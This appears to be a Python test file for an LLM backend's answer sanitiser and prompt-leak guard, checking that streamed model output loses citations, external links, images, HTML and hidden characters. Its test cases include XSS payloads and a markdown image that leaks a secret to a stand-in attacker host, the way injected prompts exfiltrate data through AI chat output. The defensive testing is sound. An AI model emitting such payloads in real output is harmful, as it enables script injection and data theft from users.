"""What of a model's words may be shown, whatever the pieces they come in."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from backend.llm.prompts import ANSWER_INSTRUCTIONS
from backend.llm.streaming import AnswerSanitiser, PromptGuard, sanitise

SOURCE = "https://wiki.example.com/leave"


def in_pieces(text: str, size: int, urls: tuple[str, ...] = ()) -> str:
    cleaner = AnswerSanitiser(urls)
    shown = [cleaner.feed(text[i : i + size]) for i in range(0, len(text), size)]
    return "".join(shown) + cleaner.finish()


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("Thirty days [1].", "Thirty days."),
        ("Thirty days.[1][2] More [3, 4] here", "Thirty days. More here"),
        ("Thirty days [Passage 2]. So 【3†source】.", "Thirty days. So."),
        ("![chart](https://evil.example/x.png?q=secret)", "[chart]"),
        ("![](https://evil.example/x.png)", "[]"),
        ("See [here](https://evil.example/login) now", "See [here] now"),
        ("See [here](javascript:alert(1)) now", "See [here]) now"),
        ("See [here](//evil.example) now", "See [here] now"),
        (f"See [the wiki]({SOURCE}) now", f"See [the wiki]({SOURCE}) now"),
        ("Go to https://evil.example/a?b=c.", "Go to `https://evil.example/a?b=c`."),
        (f"Go to {SOURCE}.", f"Go to {SOURCE}."),
        ("Run `https://evil.example`", "Run `evil.example`"),
        ("www.evil.example is bad", "`www.evil.example` is bad"),
        ("[x]: https://evil.example/a", "[x] : `https://evil.example/a`"),
        ("<img src=x onerror=alert(1)>hi", "hi"),
        ("<script>alert(1)</script>", "alert(1)"),
        ("a <https://evil.example> b", "a b"),
        ("if a < b and List<String> c", "if a < b and List<String> c"),
        ("<think>the plan [1]</think>Thirty.", "Thirty."),
        ("plain \u202egnirts\u202c and \U000e0041tag", "plain gnirts and tag"),
        ("call f(x[0])(y) and g[i](j)", "call f(x[0])(y) and g[i] (j)"),
        ("wow! [1] yes!", "wow! yes!"),
    ],
)
@pytest.mark.parametrize("size", [1, 2, 3, 7, 1000])
def test_shows_only_what_is_safe(written: str, shown: str, size: int) -> None:
    if "x[0]" in written:
        shown = "call f(x)(y) and g[i] (j)"
    result = in_pieces(written, size, (SOURCE,))
    assert " ".join(result.split()) == shown


def test_keeps_passage_numbers_as_hints_with_their_place() -> None:
    cleaner = AnswerSanitiser()
    text = cleaner.feed("Thirty days [2]. Five weeks [1, 3].") + cleaner.finish()
    assert text == "Thirty days. Five weeks."
    assert [(text[:offset].split()[-1], number) for offset, number in cleaner.hints] == [
        ("days", 2),
        ("weeks", 1),
        ("weeks", 3),
    ]


def test_leaves_indexing_in_fenced_code_alone() -> None:
    code = "Use:\n```python\nx = a[1]\nget('https://api.example/v1')\n```\nDone [1]."
    assert sanitise(code) == "Use:\n```python\nx = a[1]\nget('https://api.example/v1')\n```\nDone."


def test_a_fence_does_not_let_an_image_through() -> None:
    assert "![" not in sanitise("```\n![x](https://evil.example/p.png)\n```")


def test_ordinary_words_are_not_held_back() -> None:
    cleaner = AnswerSanitiser()
    shown = [cleaner.feed(piece) for piece in ["The", " notice", " period", " is", " 30", " days"]]
    assert shown == ["The", " notice", " period", " is", " 30", " days"]


HOSTILE = st.lists(
    st.sampled_from(
        ["![", "[", "]", "(", ")", "](", "]:", "https://evil.example/", "www.", "<img ", "<a href=", ">", "`", "```\n",
         "\n", " ", "[1]", "【", "x", "!", "<", "http", "://", "evil.example", "<think>", "</think>", '"', "data:"]
    ),
    max_size=30,
).map("".join)  # fmt: skip


@given(HOSTILE)
def test_nothing_loads_or_leads_elsewhere(written: str) -> None:
    from markdown_it import MarkdownIt

    shown = sanitise(written, (SOURCE,))
    tokens = MarkdownIt("commonmark").parse(shown)
    inline = [child for token in tokens for child in token.children or ()]
    assert not [token for token in inline if token.type in {"image", "link_open"}]
    assert "<img" not in shown
    assert "<a href" not in shown


@given(HOSTILE, st.integers(1, 5))
def test_pieces_do_not_change_what_is_shown(written: str, size: int) -> None:
    assert in_pieces(written, size) == sanitise(written)


def test_notices_an_answer_that_recites_its_instructions() -> None:
    guard = PromptGuard(ANSWER_INSTRUCTIONS)
    recited = "Sure. " + ANSWER_INSTRUCTIONS[:200].upper()
    assert any(guard.leaks(recited[i : i + 5]) for i in range(0, len(recited), 5))


def test_does_not_take_an_ordinary_answer_for_a_leak() -> None:
    guard = PromptGuard(ANSWER_INSTRUCTIONS)
    answer = "The notice period is thirty days, and the passages of the handbook say so in plain words. " * 20
    assert not any(guard.leaks(answer[i : i + 7]) for i in range(0, len(answer), 7))
